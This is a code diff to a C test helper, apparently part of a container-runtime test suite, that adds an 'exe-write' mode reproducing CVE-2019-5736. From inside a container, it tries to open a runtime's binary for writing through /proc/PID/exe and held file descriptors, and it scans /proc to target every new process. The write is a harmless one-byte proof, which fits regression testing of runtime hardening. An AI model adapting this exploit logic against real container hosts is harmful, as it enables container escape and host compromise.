@@ -33,6 +33,10 @@
  * --children N forks N children that sleep until the checker dies (they get
  * SIGKILL with it) and lists their pids under "children".
  *
+ * `checker exe-write ...` is another program: the moves of CVE-2019-5736
+ * against a runtime's binary, see exe_write_main (it prints its own JSON:
+ * mode, self_link, rounds, attempts, errors).
+ *
  * Built with: gcc -static -O2 -Wall -o checker checker.c
  *
  * Robustness rules: never crash on a missing /proc or an unexpected file;
@@ -1086,6 +1090,355 @@ static int spawn_children(int n, pid_t *pids, int max)
 	return made;
 }
 
+/* ------------------------------------------------------------------ */
+/* exe-write: CVE-2019-5736's moves, made from inside the container    */
+
+/*
+ * Every way a container process had to get write access to a runtime's
+ * binary through /proc/PID/exe: open it O_WRONLY, or open it O_PATH or
+ * O_RDONLY and re-open /proc/self/fd/N O_WRONLY, at once and again once
+ * the target has exec'd something else or exited (the fd kept meanwhile).
+ * An open that succeeds is followed by pwrite of 0x7f at offset 0, the
+ * first byte of every ELF file: proof of write access that changes no
+ * byte (though it does touch the file's mtime).
+ */
+
+#define MAX_TARGETS 256
+#define MAX_ATTEMPTS 2048
+#define LINK_MAX_LEN 512
+#define N_HELD 2
+
+struct exe_target {
+	int pid;
+	char link[LINK_MAX_LEN];	/* readlink of /proc/PID/exe, or "" */
+	int link_err;			/* its errno, 0 if it worked */
+	int held[N_HELD];		/* the O_PATH and O_RDONLY fds, or -1 */
+};
+
+struct exe_attempt {
+	int pid;
+	char link[LINK_MAX_LEN];
+	int link_err;
+	const char *how;	/* open-wronly, path-reopen, rdonly-reopen */
+	const char *when;	/* live, after-exec, final */
+	const char *stage;	/* open, reopen, write */
+	int err;		/* 0: the write went through */
+};
+
+static const char *const held_how[N_HELD] = { "path-reopen", "rdonly-reopen" };
+static const int held_flags[N_HELD] = { O_PATH, O_RDONLY };
+static struct exe_target targets[MAX_TARGETS];
+static int n_targets;
+static struct exe_attempt attempts[MAX_ATTEMPTS];
+static int n_attempts;
+static long scan_rounds;
+
+static void exe_identity(int pid, char *link, int *err)
+{
+	char path[64];
+	ssize_t n;
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	n = readlink(path, link, LINK_MAX_LEN - 1);
+	*err = n < 0 ? errno : 0;
+	link[n < 0 ? 0 : n] = '\0';
+}
+
+static void record(const struct exe_target *t, const char *how, const char *when,
+		   const char *stage, int err)
+{
+	struct exe_attempt *a;
+
+	if (n_attempts >= MAX_ATTEMPTS) {
+		add_error("too many attempts");
+		return;
+	}
+	a = &attempts[n_attempts++];
+	a->pid = t->pid;
+	memcpy(a->link, t->link, sizeof(a->link));
+	a->link_err = t->link_err;
+	a->how = how;
+	a->when = when;
+	a->stage = stage;
+	a->err = err;
+}
+
+/* open(path, O_WRONLY) and the harmless write: 0, or the errno and stage. */
+static int open_and_write(const char *path, const char *open_stage, const char **stage)
+{
+	int fd = open(path, O_WRONLY | O_CLOEXEC);
+	int err = 0;
+
+	if (fd < 0) {
+		*stage = open_stage;
+		return errno;
+	}
+	*stage = "write";
+	if (pwrite(fd, "\x7f", 1, 0) != 1)
+		err = errno ? errno : EIO;
+	close(fd);
+	return err;
+}
+
+/* Re-opens each held fd of t for writing. */
+static void retry_held(struct exe_target *t, const char *when)
+{
+	for (int i = 0; i < N_HELD; i++) {
+		char path[64];
+		const char *stage;
+		int err;
+
+		if (t->held[i] < 0)
+			continue;
+		snprintf(path, sizeof(path), "/proc/self/fd/%d", t->held[i]);
+		err = open_and_write(path, "reopen", &stage);
+		record(t, held_how[i], when, stage, err);
+	}
+}
+
+/* The attempts on a running target; its fds are kept in t->held. */
+static void attack_live(struct exe_target *t)
+{
+	char path[64];
+	const char *stage;
+	int err;
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", t->pid);
+	err = open_and_write(path, "open", &stage);
+	record(t, "open-wronly", "live", stage, err);
+	for (int i = 0; i < N_HELD; i++) {
+		t->held[i] = open(path, held_flags[i] | O_CLOEXEC);
+		if (t->held[i] < 0)
+			record(t, held_how[i], "live", "open", errno);
+	}
+	retry_held(t, "live");
+}
+
+static void emit_exe_report(const char *mode)
+{
+	char own[LINK_MAX_LEN];
+	int own_err;
+
+	exe_identity(getpid(), own, &own_err);
+	json_open('{');
+	kv_str("mode", mode);
+	kv_str("self_link", own);
+	kv_int("rounds", scan_rounds);
+	json_key("attempts");
+	json_open('[');
+	for (int i = 0; i < n_attempts; i++) {
+		const struct exe_attempt *a = &attempts[i];
+
+		json_open('{');
+		kv_int("pid", a->pid);
+		kv_str("link", a->link);
+		kv_str("link_errno", errno_name(a->link_err));
+		kv_str("how", a->how);
+		kv_str("when", a->when);
+		kv_str("stage", a->stage);
+		kv_int("errno", a->err);
+		kv_str("errno_name", errno_name(a->err));
+		json_close('}');
+	}
+	json_close(']');
+	emit_string_list("errors", errors, n_errors);
+	json_close('}');
+	putchar('\n');
+	fflush(stdout);
+}
+
+static double now_seconds(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
+}
+
+/*
+ * exe-write pid PID [--until FILE]: attacks PID's exe now, prints "ready",
+ * waits until PID runs another image (or is gone) and FILE exists, then
+ * re-opens the kept fds.
+ */
+static int exe_write_pid(int pid, const char *until)
+{
+	struct exe_target *t = &targets[n_targets++];
+	char link[LINK_MAX_LEN];
+	int err;
+	double deadline = now_seconds() + 60;
+
+	t->pid = pid;
+	exe_identity(pid, t->link, &t->link_err);
+	attack_live(t);
+	puts("ready");
+	fflush(stdout);
+	for (;;) {
+		exe_identity(pid, link, &err);
+		if (err == ENOENT || err == ESRCH || err != t->link_err || strcmp(link, t->link) != 0)
+			break;
+		if (now_seconds() > deadline) {
+			add_error("pid %d still runs the same image after 60 s", pid);
+			break;
+		}
+		sleep_seconds(0.005);
+	}
+	while (until && access(until, F_OK) != 0) {
+		if (now_seconds() > deadline) {
+			add_error("%s did not appear within 60 s", until);
+			break;
+		}
+		sleep_seconds(0.005);
+	}
+	retry_held(t, "after-exec");
+	emit_exe_report("pid");
+	return 0;
+}
+
+/* exe-write self PROG: keeps /proc/self/exe open O_PATH across exec of PROG. */
+static int exe_write_self(const char *prog)
+{
+	char num[16];
+	int fd = open("/proc/self/exe", O_PATH);
+
+	if (fd < 0) {
+		add_error("open /proc/self/exe O_PATH: %s", errno_name(errno));
+	} else {
+		snprintf(num, sizeof(num), "%d", fd);
+		execl(prog, "checker", "exe-write", "fd", num, (char *)NULL);
+		add_error("exec %s: %s", prog, errno_name(errno));
+	}
+	emit_exe_report("self");
+	return 1;
+}
+
+/* exe-write fd N: the second half of `self`, in the image exec'd. */
+static int exe_write_fd(int fd)
+{
+	struct exe_target *t = &targets[n_targets++];
+	char path[64];
+	ssize_t n;
+
+	t->pid = getpid();
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	n = readlink(path, t->link, sizeof(t->link) - 1);
+	t->link_err = n < 0 ? errno : 0;
+	t->link[n < 0 ? 0 : n] = '\0';
+	t->held[0] = fd;
+	t->held[1] = -1;
+	retry_held(t, "after-exec");
+	emit_exe_report("self");
+	return 0;
+}
+
+static struct exe_target *find_target(int pid, const char *link, int err)
+{
+	for (int i = 0; i < n_targets; i++)
+		if (targets[i].pid == pid && targets[i].link_err == err && strcmp(targets[i].link, link) == 0)
+			return &targets[i];
+	return NULL;
+}
+
+/*
+ * One pass over /proc: attacks each process image not seen before (a pid
+ * that execs is a new one), but not our own kind, and says so on stdout
+ * ("attacked PID LINK_ERRNO LINK").
+ */
+static void scan_once(const char *own_link)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *de;
+
+	if (!d) {
+		add_error("opendir /proc: %s", errno_name(errno));
+		return;
+	}
+	while ((de = readdir(d))) {
+		char link[LINK_MAX_LEN];
+		int pid = atoi(de->d_name), err;
+		struct exe_target *t;
+
+		if (pid <= 0 || pid == getpid())
+			continue;
+		exe_identity(pid, link, &err);
+		if (err == ENOENT || err == ESRCH || (err == 0 && strcmp(link, own_link) == 0))
+			continue;
+		if (find_target(pid, link, err))
+			continue;
+		if (n_targets >= MAX_TARGETS) {
+			add_error("too many targets");
+			break;
+		}
+		t = &targets[n_targets++];
+		t->pid = pid;
+		memcpy(t->link, link, sizeof(t->link));
+		t->link_err = err;
+		attack_live(t);
+		printf("attacked %d %s %s\n", pid, errno_name(err), link);
+		fflush(stdout);
+	}
+	closedir(d);
+	scan_rounds++;
+}
+
+/*
+ * exe-write scan [--until FILE]: attacks every new process image in our
+ * pid namespace until FILE exists, then re-opens all kept fds.
+ */
+static int exe_write_scan(int argc, char **argv)
+{
+	const char *until = NULL;
+	char own[LINK_MAX_LEN];
+	int own_err;
+	double deadline = now_seconds() + 120;
+
+	for (int i = 0; i < argc; i++) {
+		const char *next = i + 1 < argc ? argv[i + 1] : NULL;
+
+		if (strcmp(argv[i], "--until") == 0 && next) {
+			until = argv[++i];
+		} else {
+			add_error("unknown argument: %s", argv[i]);
+		}
+	}
+	install_exit_handlers();
+	exe_identity(getpid(), own, &own_err);
+	while (!until || access(until, F_OK) != 0) {
+		if (now_seconds() > deadline) {
+			add_error("%s did not appear within 120 s", until ? until : "(nothing)");
+			break;
+		}
+		scan_once(own);
+		sleep_seconds(0.0002);
+	}
+	for (int i = 0; i < n_targets; i++)
+		retry_held(&targets[i], "final");
+	emit_exe_report("scan");
+	/* As pid 1, exiting would kill the other attackers before they report. */
+	while (getpid() == 1)
+		pause();
+	return 0;
+}
+
+/*
+ * exe-write pid PID [--until FILE] | self PROG | fd N | scan [--until FILE]
+ */
+static int exe_write_main(int argc, char **argv)
+{
+	if (argc == 3 && strcmp(argv[1], "pid") == 0)
+		return exe_write_pid(atoi(argv[2]), NULL);
+	if (argc == 5 && strcmp(argv[1], "pid") == 0 && strcmp(argv[3], "--until") == 0)
+		return exe_write_pid(atoi(argv[2]), argv[4]);
+	if (argc >= 3 && strcmp(argv[1], "self") == 0)
+		return exe_write_self(argv[2]);
+	if (argc >= 3 && strcmp(argv[1], "fd") == 0)
+		return exe_write_fd(atoi(argv[2]));
+	if (argc >= 2 && strcmp(argv[1], "scan") == 0)
+		return exe_write_scan(argc - 2, argv + 2);
+	add_error("usage: exe-write pid PID [--until FILE] | self PROG | fd N | scan [--until FILE]");
+	emit_exe_report("usage");
+	return 2;
+}
+
 int main(int argc, char **argv)
 {
 	static int fds[MAX_FDS];
@@ -1101,7 +1454,11 @@ int main(int argc, char **argv)
 	static pid_t children[64];
 	double sleep_for = 0;
 	extern char **environ;
-	int n_fds = collect_fds(fds, fd_targets);
+	int n_fds;
+
+	if (argc > 1 && strcmp(argv[1], "exe-write") == 0)
+		return exe_write_main(argc - 1, argv + 1);
+	n_fds = collect_fds(fds, fd_targets);
 
 	for (int i = 1; i < argc; i++) {
 		const char *next = i + 1 < argc ? argv[i + 1] : NULL;
